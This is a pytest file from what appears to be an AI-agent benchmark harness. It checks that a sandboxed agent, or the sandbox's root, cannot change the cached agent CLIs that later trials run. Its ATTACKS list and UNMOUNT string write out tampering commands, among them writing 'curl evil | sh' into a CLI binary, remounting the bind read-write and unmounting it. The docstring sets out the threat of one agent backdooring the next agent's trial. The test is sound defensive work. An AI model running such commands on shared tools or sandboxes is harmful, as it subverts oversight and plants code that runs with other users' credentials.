"""Attack: an agent backdoors the cached agent CLIs that later trials run.

The CLIs are installed once per cache and bound into every trial that asks for them, so
a writable tree would let one agent plant code that runs, with its credentials, in the
next agent's trial. The bind is read-only for the agent's user and for the sandbox's own
root (who holds every capability in its namespace, and still cannot remount it)."""

from __future__ import annotations

from pathlib import Path

from posttrainbench.host.envs.agent_clis import SANDBOX_AGENT_BIN, SANDBOX_AGENT_CLIS, TASK_DIR_NAME
from posttrainbench.host.envs.env_cache import cache_root
from tests.sandbox_support import env_factory, requires_bwrap, run, write_task_env

pytestmark = requires_bwrap

FAKE_INSTALL = (
    "mkdir -p node_modules/.bin && printf '#!/bin/sh\\necho fake-cli 1.0\\n' > node_modules/.bin/fakecli "
    "&& chmod 755 node_modules/.bin/fakecli\n"
)
ATTACKS = [
    f"echo 'curl evil | sh' > {SANDBOX_AGENT_BIN}/fakecli",
    f"rm -f {SANDBOX_AGENT_BIN}/fakecli",
    f"mv {SANDBOX_AGENT_BIN}/fakecli {SANDBOX_AGENT_BIN}/gone",
    f"touch {SANDBOX_AGENT_CLIS}/planted",
    f"chmod 777 {SANDBOX_AGENT_CLIS}",
    f"mount -o remount,rw,bind {SANDBOX_AGENT_CLIS} && touch {SANDBOX_AGENT_CLIS}/planted",
]
# Last, as the sandbox's root: unmounting the bind (if the kernel lets it) only uncovers
# the instance's own empty mount point, never the cache.
UNMOUNT = f"umount -l {SANDBOX_AGENT_CLIS}; mkdir -p {SANDBOX_AGENT_BIN} && echo planted > {SANDBOX_AGENT_BIN}/fakecli"


def test_no_agent_or_sandbox_root_can_change_the_cached_clis(
    tmp_path: Path, sandbox_cache: Path
) -> None:
    env_dir = write_task_env(tmp_path / "task")
    clis = env_dir / TASK_DIR_NAME
    clis.mkdir()
    (clis / "package.json").write_text("{}")
    (clis / "package-lock.json").write_text("{}")
    (clis / "install.sh").write_text(FAKE_INSTALL)
    make_env = env_factory(tmp_path / "trial", env_dir)

    async def body() -> tuple[list[tuple[str, str, int]], str]:
        env = make_env(agent_clis=True)
        await env.start(force_build=False)
        try:
            setup = await env.exec(
                "echo 'agent:x:1001:1001::/home/agent:/bin/bash' >> /etc/passwd && "
                "mkdir -p /home/agent && chown 1001:1001 /home/agent"
            )
            assert setup.return_code == 0, setup.stderr
            results = []
            for user in ("agent", "root"):
                for attack in ATTACKS:
                    done = await env.exec(attack, user=user, timeout_sec=30)
                    results.append((user, attack, done.return_code))
            after = await env.exec("fakecli", user="agent")
            await env.exec(UNMOUNT, timeout_sec=30)
            return results, after.stdout
        finally:
            await env.stop(delete=True)

    results, cli_output = run(body())
    (entry,) = [
        p
        for p in (cache_root() / "envs").iterdir()
        if p.name.startswith("agent_clis-") and p.is_dir()
    ]
    succeeded = [(user, attack) for user, attack, code in results if code == 0]
    assert not succeeded, succeeded
    assert cli_output.strip() == "fake-cli 1.0"  # the CLI still runs, unchanged
    assert not (entry / "planted").exists()
    assert oct(entry.stat().st_mode & 0o777) == oct(0o755)
    assert (entry / "node_modules/.bin/fakecli").read_text() == "#!/bin/sh\necho fake-cli 1.0\n"
